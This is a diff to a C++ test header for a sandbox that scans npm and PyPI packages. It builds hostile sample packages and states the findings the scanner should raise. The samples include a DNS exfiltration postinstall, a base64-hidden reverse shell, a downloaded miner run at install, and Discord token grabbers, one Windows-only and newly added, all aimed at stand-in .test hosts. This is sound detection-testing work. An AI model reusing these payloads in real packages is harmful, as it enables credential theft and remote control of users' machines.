@@ -38,7 +38,8 @@ inline std::string behavior_npm_package(std::vector<TestEntry> files) {
   return make_tgz(entries);
 }
 
-inline std::string behavior_setup_py(const std::string& name, const std::string& before, const std::string& extra = "") {
+inline std::string behavior_setup_py(const std::string& name, const std::string& before,
+                                     const std::string& extra = "") {
   return "from setuptools import setup\n" + before + "\nsetup(name='" + name + "', version='1.0', packages=['" + name +
          "']" + extra + ")\n";
 }
@@ -58,8 +59,8 @@ struct HostilePackage {
   std::vector<ExpectedFinding> findings;  // empty: the package must give none at all
 };
 
-// The four hostile packages of the issue, a token grabber that sends over HTTPS, then a native package whose build fails for want of
-// a compiler (no finding) and an ordinary one (none either).
+// The four hostile packages of the issue, a token grabber that sends over HTTPS, then a native package whose build
+// fails for want of a compiler (no finding) and an ordinary one (none either).
 inline std::vector<HostilePackage> hostile_packages() {
   std::vector<HostilePackage> out;
   {
@@ -80,12 +81,12 @@ inline std::vector<HostilePackage> hostile_packages() {
   {
     const std::string pj = R"({"name":"hostname-dns","version":"1.0.0","scripts":{"postinstall":
     "node -e \"require('dns').lookup(require('os').userInfo().username + '.' + process.env.npm_package_name + '.dns.exfil.test', () => {})\""}})";
-    out.push_back({"a postinstall that resolves a name carrying the host's user",
-                   core::PackageKind::kNpm,
-                   behavior_npm_package({file("package.json", pj), file("index.js", "module.exports = 1;\n")}),
-                   {{"behavior-identity-sent", core::Severity::kHigh,
-                     "in a DNS name: builder.hostname-dns.dns.exfil.test"},
-                    {"behavior-network-at-install", core::Severity::kMedium, "builder.hostname-dns.dns.exfil.test"}}});
+    out.push_back(
+        {"a postinstall that resolves a name carrying the host's user",
+         core::PackageKind::kNpm,
+         behavior_npm_package({file("package.json", pj), file("index.js", "module.exports = 1;\n")}),
+         {{"behavior-identity-sent", core::Severity::kHigh, "in a DNS name: builder.hostname-dns.dns.exfil.test"},
+          {"behavior-network-at-install", core::Severity::kMedium, "builder.hostname-dns.dns.exfil.test"}}});
   }
   {
     const std::string payload =
@@ -94,13 +95,13 @@ inline std::vector<HostilePackage> hostile_packages() {
         "s.sendall(b'hello from ' + os.uname().nodename.encode())\n"
         "subprocess.call(['/bin/sh', '-i'], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())\n";
     const std::string init = "import base64\nexec(base64.b64decode('" + wire::base64_encode(payload) + "'))\n";
-    out.push_back({"an import-time exec of decoded text: a reverse shell",
-                   core::PackageKind::kPypi,
-                   behavior_sdist("revsh", {file("setup.py", behavior_setup_py("revsh", "")),
-                                            file("revsh/__init__.py", init)}),
-                   {{"behavior-interactive-shell", core::Severity::kHigh,
-                     "at import, started an interactive shell (a reverse shell's): /bin/sh -i"},
-                    {"behavior-network-at-import", core::Severity::kMedium, "c2.exfil.test:4444"}}});
+    out.push_back(
+        {"an import-time exec of decoded text: a reverse shell",
+         core::PackageKind::kPypi,
+         behavior_sdist("revsh", {file("setup.py", behavior_setup_py("revsh", "")), file("revsh/__init__.py", init)}),
+         {{"behavior-interactive-shell", core::Severity::kHigh,
+           "at import, started an interactive shell (a reverse shell's): /bin/sh -i"},
+          {"behavior-network-at-import", core::Severity::kMedium, "c2.exfil.test:4444"}}});
   }
   {
     const std::string pre =
@@ -113,13 +114,13 @@ inline std::vector<HostilePackage> hostile_packages() {
         "'44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7ot', '--donate-level', '1'])\n"
         "except OSError as e:\n"
         "    print('run failed', e)\n";
-    out.push_back({"a miner downloaded, made executable and run at install",
-                   core::PackageKind::kPypi,
-                   behavior_sdist("miner", {file("setup.py", behavior_setup_py("miner", pre)),
-                                            file("miner/__init__.py", "")}),
-                   {{"behavior-downloaded-program-run", core::Severity::kHigh,
-                     "at install, ran a program it had fetched: /work/tmp/xmrig -o pool.exfil.test:3333"},
-                    {"behavior-network-at-install", core::Severity::kMedium, "dl.exfil.test"}}});
+    out.push_back(
+        {"a miner downloaded, made executable and run at install",
+         core::PackageKind::kPypi,
+         behavior_sdist("miner", {file("setup.py", behavior_setup_py("miner", pre)), file("miner/__init__.py", "")}),
+         {{"behavior-downloaded-program-run", core::Severity::kHigh,
+           "at install, ran a program it had fetched: /work/tmp/xmrig -o pool.exfil.test:3333"},
+          {"behavior-network-at-install", core::Severity::kMedium, "dl.exfil.test"}}});
   }
   {
     // A Discord token grabber as they are written: the token store's lines searched for the
@@ -132,32 +133,52 @@ inline std::vector<HostilePackage> hostile_packages() {
         "for name in os.listdir(store):\n"
         "    tokens += re.findall(r'[A-Za-z0-9_.-]{20,}', open(os.path.join(store, name), errors='ignore').read())\n"
         "requests.post('https://hooks.exfil.test/api/webhooks/1', json={'content': ' '.join(tokens)}, timeout=5)\n";
-    out.push_back({"an import that posts a Discord token to a webhook over HTTPS",
+    out.push_back(
+        {"an import that posts a Discord token to a webhook over HTTPS",
+         core::PackageKind::kPypi,
+         behavior_sdist("grabber",
+                        {file("setup.py", behavior_setup_py("grabber", "")), file("grabber/__init__.py", init)}),
+         {{"behavior-canary-sent", core::Severity::kCritical,
+           "at import, sent a decoy credential's canary to hooks.exfil.test:443 (POST /api/webhooks/1 "
+           "HTTP/1.1)"},
+          {"behavior-token-store-read", core::Severity::kHigh, "at import, read a decoy discord-token-store"}}});
+  }
+  {
+    // Written for Windows, as much PyPI malware is: nothing happens unless os.name says "nt";
+    // then Discord's store under APPDATA is read and posted. Seen in the Windows view.
+    const std::string pre =
+        "import os, glob, urllib.request\n"
+        "if os.name == 'nt':\n"
+        "    for path in glob.glob(os.path.join(os.getenv('APPDATA'), 'discord', 'Local Storage', 'leveldb', "
+        "'*.log')):\n"
+        "        urllib.request.urlopen('https://hooks.exfil.test/api/webhooks/2', data=open(path, 'rb').read(), "
+        "timeout=5)\n";
+    out.push_back({"a setup.py that steals Discord's token only on Windows",
                    core::PackageKind::kPypi,
-                   behavior_sdist("grabber", {file("setup.py", behavior_setup_py("grabber", "")),
-                                              file("grabber/__init__.py", init)}),
+                   behavior_sdist("winonly", {file("setup.py", behavior_setup_py("winonly", pre)),
+                                              file("winonly/__init__.py", "")}),
                    {{"behavior-canary-sent", core::Severity::kCritical,
-                     "at import, sent a decoy credential's canary to hooks.exfil.test:443 (POST /api/webhooks/1 "
-                     "HTTP/1.1)"},
-                    {"behavior-token-store-read", core::Severity::kHigh, "at import, read a decoy discord-token-store"}}});
+                     "at install as Windows, sent a decoy credential's canary to hooks.exfil.test:443 (POST "
+                     "/api/webhooks/2 HTTP/1.1)"},
+                    {"behavior-token-store-read", core::Severity::kHigh,
+                     "at install as Windows, read a decoy discord-token-store"}}});
   }
   out.push_back({"a native package whose build fails without a compiler",
                  core::PackageKind::kPypi,
-                 behavior_sdist("fastext", {file("setup.py", behavior_setup_py("fastext",
-                                                                                "from setuptools import Extension",
-                                                                                ", ext_modules=[Extension('fastext._c', "
-                                                                                "['fastext/_c.c'])]")),
-                                            file("fastext/__init__.py", ""),
-                                            file("fastext/_c.c", "int f(void) { return 1; }\n")}),
+                 behavior_sdist("fastext",
+                                {file("setup.py", behavior_setup_py("fastext", "from setuptools import Extension",
+                                                                    ", ext_modules=[Extension('fastext._c', "
+                                                                    "['fastext/_c.c'])]")),
+                                 file("fastext/__init__.py", ""), file("fastext/_c.c", "int f(void) { return 1; }\n")}),
                  {}});
   {
     const std::string pj = R"({"name":"plain","version":"1.0.0","main":"index.js",
     "scripts":{"postinstall":"node -e \"require('fs').writeFileSync('built.txt', 'ok')\""}})";
-    out.push_back({"an ordinary npm package with a postinstall",
-                   core::PackageKind::kNpm,
-                   behavior_npm_package({file("package.json", pj),
-                                         file("index.js", "module.exports = require('path').sep;\n")}),
-                   {}});
+    out.push_back(
+        {"an ordinary npm package with a postinstall",
+         core::PackageKind::kNpm,
+         behavior_npm_package({file("package.json", pj), file("index.js", "module.exports = require('path').sep;\n")}),
+         {}});
   }
   return out;
 }
@@ -165,8 +186,8 @@ inline std::vector<HostilePackage> hostile_packages() {
 inline std::string describe_findings(const std::vector<core::Finding>& fs) {
   std::string s;
   for (const core::Finding& f : fs) {
-    s += "  " + f.reference.value_or("?") + " [" + std::string(core::to_string(f.severity)) + "] " + f.summary + "  " + f.raw +
-         "\n";
+    s += "  " + f.reference.value_or("?") + " [" + std::string(core::to_string(f.severity)) + "] " + f.summary + "  " +
+         f.raw + "\n";
   }
   return s.empty() ? "  (none)\n" : s;
 }
@@ -199,8 +220,8 @@ inline void expect_the_hostile_packages_found(core::SandboxRuntime& rt, const st
         if (f.reference == want.reference && f.summary.find(want.evidence) != std::string::npos) match = &f;
       }
       if (match == nullptr) {
-        ADD_FAILURE() << p.what << " " << where << ": no " << want.reference << " with the evidence '"
-                      << want.evidence << "' among:\n"
+        ADD_FAILURE() << p.what << " " << where << ": no " << want.reference << " with the evidence '" << want.evidence
+                      << "' among:\n"
                       << all;
         continue;
       }
